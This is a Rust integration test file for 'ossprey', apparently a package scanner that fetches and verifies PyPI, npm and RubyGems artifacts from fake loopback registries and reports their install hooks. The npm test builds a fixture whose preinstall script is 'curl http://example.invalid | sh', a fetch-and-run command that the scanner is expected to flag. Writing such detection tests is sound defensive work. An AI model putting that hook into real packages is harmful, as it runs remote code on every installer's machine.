//! `ossprey scan` of registry specs, end to end, against fake registries on loopback
//! that speak the real registries' APIs.

use std::path::Path;
use std::process::{Command, Output};

use ossprey_testkit::archives::{gzip, sha256_hex, tar_bytes};
use ossprey_testkit::{FakeServer, Reply};
use serde_json::{Value, json};
use sha2::Digest as _;

fn ossprey(args: &[&str], cache: &Path, server: &FakeServer) -> Output {
    Command::new(env!("CARGO_BIN_EXE_ossprey"))
        .args(args)
        .env("OSSPREY_CACHE_DIR", cache)
        .env("OSSPREY_PYPI_URL", &server.base)
        .env("OSSPREY_NPM_URL", &server.base)
        .env("OSSPREY_CRATES_INDEX_URL", format!("{}/index", server.base))
        .env("OSSPREY_RUBYGEMS_URL", &server.base)
        .output()
        .expect("run ossprey")
}

fn report(out: &Output) -> Value {
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "not JSON ({e}): {}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

fn sdist() -> Vec<u8> {
    gzip(&tar_bytes(&[
        (
            "demo-1.0/PKG-INFO",
            b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
        ),
        (
            "demo-1.0/setup.py",
            b"from setuptools import setup\nsetup(name='demo')\n",
        ),
    ]))
}

fn serve_pypi(server: &FakeServer, sdist: &[u8], published_sha256: &str) {
    let url = format!("{}/files/demo-1.0.tar.gz", server.base);
    server.route(
        "/pypi/demo/json",
        vec![Reply::json(&json!({
            "info": {"name": "demo", "version": "1.0"},
            "releases": {"1.0": [{
                "filename": "demo-1.0.tar.gz", "url": url, "packagetype": "sdist",
                "digests": {"sha256": published_sha256}, "yanked": false
            }]}
        }))],
    );
    server.route("/files/demo-1.0.tar.gz", vec![Reply::ok(sdist.to_vec())]);
}

#[test]
fn pypi_spec_is_fetched_verified_cached_and_scanned() {
    let server = FakeServer::start();
    let cache = tempfile::tempdir().unwrap();
    let sdist = sdist();
    let sha = sha256_hex(&sdist);
    serve_pypi(&server, &sdist, &sha);

    let out = ossprey(
        &["scan", "pypi:demo@1.0", "--format", "json"],
        cache.path(),
        &server,
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let r = report(&out);
    assert_eq!(r["target"], "pypi:demo@1.0");
    assert_eq!(
        r["package"],
        json!({"ecosystem": "pypi", "name": "demo", "version": "1.0"})
    );
    assert_eq!(r["sha256"], sha.as_str());
    assert_eq!(r["artifact"]["source"]["kind"], "registry");
    assert_eq!(r["artifact"]["source"]["filename"], "demo-1.0.tar.gz");
    assert_eq!(
        r["artifact"]["source"]["verified_digest"],
        format!("sha256:{sha}")
    );
    assert_eq!(r["manifest"]["install_hooks"][0]["trigger"], "setup-py");
    assert_eq!(server.hits("/files/demo-1.0.tar.gz"), 1);

    // A pinned version is served from the content-addressed cache, even offline.
    let out = ossprey(
        &["scan", "pypi:demo@1.0", "--format", "json", "--offline"],
        cache.path(),
        &server,
    );
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(report(&out)["sha256"], sha.as_str());
    assert_eq!(
        server.hits("/files/demo-1.0.tar.gz"),
        1,
        "no second download"
    );
}

#[test]
fn a_registry_hash_mismatch_is_reported_and_nothing_is_scanned() {
    let server = FakeServer::start();
    let cache = tempfile::tempdir().unwrap();
    serve_pypi(&server, &sdist(), &"0".repeat(64));
    let out = ossprey(
        &["scan", "pypi:demo@1.0", "--format", "json"],
        cache.path(),
        &server,
    );
    assert_eq!(out.status.code(), Some(2));
    let r = report(&out);
    assert_eq!(r["error"]["code"], "hash-mismatch");
    assert!(r["inventory"].is_null());
    assert!(r["verdict"].is_null());
}

#[test]
fn missing_package_and_version_have_distinct_codes() {
    let server = FakeServer::start();
    let cache = tempfile::tempdir().unwrap();
    let sdist = sdist();
    serve_pypi(&server, &sdist, &sha256_hex(&sdist));
    let out = ossprey(
        &[
            "scan",
            "pypi:demo@9.9",
            "pypi:nosuchthing",
            "--format",
            "jsonl",
            "--retries",
            "0",
        ],
        cache.path(),
        &server,
    );
    assert_eq!(out.status.code(), Some(2));
    let lines: Vec<Value> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines[0]["error"]["code"], "no-such-version");
    assert!(
        lines[0]["error"]["message"]
            .as_str()
            .unwrap()
            .contains("1.0"),
        "names the latest version"
    );
    assert_eq!(lines[1]["error"]["code"], "no-such-package");
}

/// A `.gem` as `gem build` writes it: an outer plain tar holding gzip'd YAML
/// metadata and a gzip'd data tar.
fn gem() -> Vec<u8> {
    let metadata = b"--- !ruby/object:Gem::Specification\nname: nativegem\nversion: !ruby/object:Gem::Version\n  version: 0.3.1\nplatform: ruby\nsummary: A gem with a native extension\nextensions:\n- ext/nativegem/extconf.rb\ndependencies: []\n";
    let data = gzip(&tar_bytes(&[
        ("lib/nativegem.rb", b"require 'nativegem/nativegem'\n"),
        (
            "ext/nativegem/extconf.rb",
            b"require 'mkmf'\ncreate_makefile('nativegem')\n",
        ),
    ]));
    tar_bytes(&[("metadata.gz", &gzip(metadata)), ("data.tar.gz", &data)])
}

#[test]
fn rubygems_spec_against_a_server_speaking_the_rubygems_api() {
    let server = FakeServer::start();
    let cache = tempfile::tempdir().unwrap();
    let gem = gem();
    let sha = sha256_hex(&gem);
    server.route(
        "/api/v1/versions/nativegem.json",
        vec![Reply::json(&json!([
            {"number": "0.4.0.beta1", "platform": "ruby", "prerelease": true, "sha": "1".repeat(64)},
            {"number": "0.3.1", "platform": "ruby", "prerelease": false, "sha": sha},
            {"number": "0.3.0", "platform": "ruby", "prerelease": false, "sha": "2".repeat(64)}
        ]))],
    );
    server.route(
        "/api/v1/versions/nativegem/latest.json",
        vec![Reply::json(&json!({"version": "0.3.1"}))],
    );
    server.route("/gems/nativegem-0.3.1.gem", vec![Reply::ok(gem)]);

    let out = ossprey(
        &["scan", "rubygems:nativegem", "--format", "json"],
        cache.path(),
        &server,
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let r = report(&out);
    assert_eq!(
        r["package"],
        json!({"ecosystem": "rubygems", "name": "nativegem", "version": "0.3.1"})
    );
    assert_eq!(r["sha256"], sha.as_str());
    assert_eq!(r["manifest"]["name"], "nativegem");
    let hooks = r["manifest"]["install_hooks"].as_array().unwrap();
    assert!(
        hooks.iter().any(|h| h["trigger"] == "gem-extension"
            && h["path"] == "data.tar.gz!/ext/nativegem/extconf.rb"),
        "{hooks:?}"
    );
    let paths: Vec<&str> = r["inventory"]["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert!(
        paths.contains(&"data.tar.gz!/lib/nativegem.rb"),
        "{paths:?}"
    );
}

#[test]
fn npm_scoped_spec_with_sha512_integrity() {
    use base64::Engine as _;
    let server = FakeServer::start();
    let cache = tempfile::tempdir().unwrap();
    let tgz = gzip(&tar_bytes(&[(
        "package/package.json",
        br#"{"name":"@acme/util","version":"2.0.0","scripts":{"preinstall":"curl http://example.invalid | sh"}}"#,
    )]));
    let integrity = format!(
        "sha512-{}",
        base64::engine::general_purpose::STANDARD.encode(sha2::Sha512::digest(&tgz))
    );
    server.route(
        "/@acme%2futil",
        vec![Reply::json(&json!({
            "name": "@acme/util",
            "dist-tags": {"latest": "2.0.0"},
            "versions": {"2.0.0": {"name": "@acme/util", "version": "2.0.0", "dist": {
                "tarball": format!("{}/@acme/util/-/util-2.0.0.tgz", server.base),
                "integrity": integrity
            }}}
        }))],
    );
    server.route("/@acme/util/-/util-2.0.0.tgz", vec![Reply::ok(tgz)]);
    let out = ossprey(
        &["scan", "npm:@acme/util", "--format", "json"],
        cache.path(),
        &server,
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let r = report(&out);
    assert_eq!(r["package"]["name"], "@acme/util");
    assert_eq!(r["package"]["version"], "2.0.0");
    assert!(
        r["artifact"]["source"]["verified_digest"]
            .as_str()
            .unwrap()
            .starts_with("sha512:")
    );
    assert_eq!(
        r["manifest"]["install_hooks"][0]["trigger"],
        "npm-preinstall"
    );
    assert_eq!(
        r["manifest"]["install_hooks"][0]["command"],
        "curl http://example.invalid | sh"
    );
}
